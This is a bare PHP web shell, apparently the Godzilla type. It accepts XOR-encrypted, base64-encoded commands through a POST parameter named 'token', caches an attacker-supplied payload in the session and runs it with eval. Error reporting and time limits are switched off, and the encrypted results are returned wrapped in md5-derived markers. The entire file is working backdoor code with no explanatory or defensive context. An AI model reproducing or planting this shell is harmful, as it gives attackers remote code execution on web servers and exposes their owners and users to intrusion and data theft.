<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function enc0de($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$p='token';
$payloadName='payload';
$key='3c6e0b8a9c15224a';
if (isset($_POST[$p])){
    $data=enc0de(base64_decode($_POST[$p]),$key);
    if (isset($_SESSION[$payloadName])){
        $payload=enc0de($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=enc0de($payload,$key);
        }
        eval($payload);
        echo substr(md5($p.$key),0,16);
        echo base64_encode(enc0de(@run($data),$key));
        echo substr(md5($p.$key),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=enc0de($data,$key);
        }
    }
}
